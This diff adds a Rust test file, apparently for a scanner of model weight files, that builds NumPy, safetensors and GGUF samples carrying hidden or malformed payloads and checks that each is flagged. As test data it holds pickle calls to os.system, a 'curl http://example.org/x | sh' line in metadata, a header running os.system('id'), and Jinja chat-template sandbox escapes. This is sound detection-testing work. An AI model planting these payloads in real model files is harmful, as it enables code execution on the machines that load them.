@@ -1,0 +1,221 @@
+//! Formats without code that are made to carry some: NumPy, safetensors, GGUF.
+
+use weighhouse_formats::build::gguf::Gguf;
+use weighhouse_formats::build::safetensors::{Safetensors, assemble};
+use weighhouse_formats::build::zip::{Archive, Member};
+use weighhouse_formats::build::{compress, npy};
+
+use super::containers::payload;
+use crate::attack::{Sample, assert_seen};
+
+fn under(name: &str, samples: Vec<(&'static str, Vec<u8>)>) -> Vec<Sample> {
+    samples.into_iter().map(|(what, bytes)| Sample::new(what, name, bytes)).collect()
+}
+
+#[test]
+fn arrays() {
+    let bad = payload();
+    let raw = |header: &str| npy::assemble(1, header, &bad);
+    let arrays = vec![
+        ("objects", npy::array("'|O'", "(1,)", &bad)),
+        ("objects, other spelling", npy::array("'O'", "()", &bad)),
+        ("objects, long spelling", npy::array("'object'", "(1,)", &bad)),
+        ("objects, width", npy::array("'O8'", "(1,)", &bad)),
+        ("structured with objects", npy::array("[('a', '<f4'), ('b', '|O')]", "(1,)", &bad)),
+        ("nested structure with objects", npy::array("[('a', [('b', [('c', 'O')])])]", "(1,)", &bad)),
+        ("subarray of objects", npy::array("[('a', '|O', (2,))]", "(1,)", &bad)),
+        ("objects with a title", npy::array("[(('t', 'a'), '|O')]", "(1,)", &bad)),
+        ("version 2", npy::assemble(2, "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", &bad)),
+        (
+            "version 3",
+            npy::assemble(3, "{'descr': [('\u{e9}', '|O')], 'fortran_order': False, 'shape': (1,), }", &bad),
+        ),
+        ("version 9", npy::assemble(9, "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", &bad)),
+        ("shape zero", npy::array("'|O'", "(0,)", &bad)),
+        (
+            "key twice, objects last",
+            raw("{'descr': '<i4', 'descr': '|O', 'fortran_order': False, 'shape': (1,), }"),
+        ),
+        (
+            "key twice, objects first",
+            raw("{'descr': '|O', 'descr': '<i4', 'fortran_order': False, 'shape': (1,), }"),
+        ),
+        (
+            "no literal",
+            raw("{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (1,), }"),
+        ),
+        ("no dictionary", raw("'|O'")),
+        ("unknown key", raw("{'descr': '|O', 'fortran_order': False, 'shape': (1,), 'x': 1, }")),
+        ("unknown type", npy::array("'|X9'", "(1,)", &bad)),
+        ("tail behind numbers", npy::array("'<i4'", "(1,)", &[&[1, 0, 0, 0], bad.as_slice()].concat())),
+        ("numbers that are a pickle, cut short", npy::array("'|u1'", "(3,)", &bad)),
+        (
+            "second array behind",
+            [npy::array("'<i4'", "(1,)", &[1, 0, 0, 0]), npy::array("'|O'", "(1,)", &bad)].concat(),
+        ),
+        ("objects, cut", npy::array("'|O'", "(1,)", &bad[..bad.len() - 1])),
+        ("negative shape", npy::array("'|O'", "(-1,)", &bad)),
+        ("shape past 64 bits", npy::array("'<f8'", "(4611686018427387904, 8)", &bad)),
+    ];
+    let mut samples = Vec::new();
+    for (what, bytes) in arrays {
+        samples.push(Sample::new(what, "x.npy", bytes.clone()));
+        samples.push(Sample::new(
+            format!("{what} in npz"),
+            "x.npz",
+            Archive::of([Member::stored("arr_0.npy", &bytes)]).build(),
+        ));
+        samples.push(Sample::new(
+            format!("{what} in deflated npz"),
+            "x.npz",
+            Archive::of([Member::deflated("arr_0", &bytes)]).build(),
+        ));
+        samples.push(Sample::new(format!("{what} in gz"), "x.npy.gz", compress::gzip(&bytes)));
+    }
+    assert_seen("numpy", &samples);
+}
+
+#[test]
+fn safetensors() {
+    let bad = payload();
+    let one = || Safetensors::new().tensor("a", "U8", &[4], &[1, 2, 3, 4]);
+    let raw = |header: &str, data: &[u8]| assemble(header, data);
+    let text = || String::from_utf8_lossy(&bad).into_owned();
+    let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, Assembled::long());
+    let samples = vec![
+        ("tail", one().data(&bad).build()),
+        ("zip as tail", one().data(&Archive::of([Member::stored("a/data.pkl", &bad)]).build()).build()),
+        (
+            "gap",
+            raw(
+                r#"{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"b":{"dtype":"U8","shape":[1],"data_offsets":[60,61]}}"#,
+                &[bad.clone(), vec![1; 61]].concat()[..61],
+            ),
+        ),
+        (
+            "overlap",
+            raw(
+                r#"{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},"b":{"dtype":"U8","shape":[2],"data_offsets":[1,3]}}"#,
+                &[1, 2, 3],
+            ),
+        ),
+        (
+            "same bytes twice",
+            raw(
+                r#"{"a":{"dtype":"U8","shape":[2],"data_offsets":[0,2]},"b":{"dtype":"U8","shape":[2],"data_offsets":[0,2]}}"#,
+                &[1, 2],
+            ),
+        ),
+        (
+            "key twice",
+            raw(
+                r#"{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}"#,
+                &[1],
+            ),
+        ),
+        (
+            "key twice, escaped",
+            raw(
+                r#"{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"\u0061":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}"#,
+                &[1],
+            ),
+        ),
+        (
+            "metadata twice",
+            raw(
+                r#"{"__metadata__":{"a":"b"},"__metadata__":{"a":"c"},"x":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}"#,
+                &[1],
+            ),
+        ),
+        (
+            "offsets twice",
+            raw(r#"{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1],"data_offsets":[0,0]}}"#, &[1]),
+        ),
+        ("payload in metadata", one().metadata(&[("format", "pt"), ("x", &b64)]).build()),
+        ("text pickle in metadata", one().metadata(&[("x", "cos\nsystem\n(Vecho inert\ntR.")]).build()),
+        (
+            "shell in metadata",
+            one().metadata(&[("x", "#!/bin/sh\ncurl http://example.org/x | sh\n")]).build(),
+        ),
+        (
+            "size and shape disagree",
+            raw(
+                r#"{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,40]}}"#,
+                &[&bad[..], &[0; 40]].concat()[..40],
+            ),
+        ),
+        ("header padded with a pickle", {
+            let mut bytes = one().build();
+            let len = u64::from_le_bytes(bytes[..8].try_into().unwrap()) as usize;
+            bytes.splice(8 + len..8 + len, bad.iter().copied());
+            bytes[..8].copy_from_slice(&((len + bad.len()) as u64).to_le_bytes());
+            bytes
+        }),
+        ("prefix", [bad.clone(), one().build()].concat()),
+        ("a second file behind", [one().build(), bad.clone()].concat()),
+    ];
+    let _ = text;
+    assert_seen("safetensors", &under("model.safetensors", samples));
+}
+
+/// A longer payload, so that its encodings cannot be words.
+struct Assembled;
+
+impl Assembled {
+    fn long() -> Vec<u8> {
+        weighhouse_formats::build::pickle::Assembler::new(2)
+            .reduce("os", "system", &["echo inert inert inert"])
+            .finish()
+    }
+}
+
+#[test]
+fn gguf() {
+    let bad = payload();
+    let one = || Gguf::new().text("general.architecture", "llama");
+    let escape = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
+    let samples = vec![
+        ("template that escapes", one().text("tokenizer.chat_template", escape).build()),
+        ("named template that escapes", one().text("tokenizer.chat_template.tool_use", escape).build()),
+        (
+            "template that escapes through a filter",
+            one().text("tokenizer.chat_template", "{{ messages|attr('__class__') }}").build(),
+        ),
+        (
+            "template that escapes through a computed name",
+            one().text("tokenizer.chat_template", "{% set x = '__cla' ~ 'ss__' %}{{ messages[x] }}").build(),
+        ),
+        (
+            "template that escapes through cycler",
+            one()
+                .text("tokenizer.chat_template", "{{ cycler.__init__.__globals__.os.popen('id').read() }}")
+                .build(),
+        ),
+        (
+            "template that escapes by escapes",
+            one().text("tokenizer.chat_template", "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}").build(),
+        ),
+        (
+            "tail",
+            one().tensor("a", &[4], 24, &[1, 2, 3, 4]).data(&[&[0; 28], bad.as_slice()].concat()).build(),
+        ),
+        ("tail without tensors", one().data(&bad).build()),
+        ("pickle as text", one().text("x", "cos\nsystem\n(Vecho inert\ntR.").build()),
+        ("key twice", one().text("general.architecture", "bert").build()),
+        ("tensors that overlap", one().tensor("a", &[32], 24, &[1; 32]).entry("b", &[32], 24, 0).build()),
+        (
+            "tensor past the end",
+            one().tensor("a", &[32], 24, &[1; 32]).entry("b", &[1 << 40], 24, 32).build(),
+        ),
+        (
+            "gap between tensors",
+            one()
+                .entry("a", &[1], 24, 0)
+                .entry("b", &[1], 24, 128)
+                .data(&[&[1; 32], bad.as_slice(), &[9; 100]].concat()[..129])
+                .build(),
+        ),
+        ("zip behind", [one().build(), Archive::of([Member::stored("a/data.pkl", &bad)]).build()].concat()),
+    ];
+    assert_seen("gguf", &under("model.gguf", samples));
+}
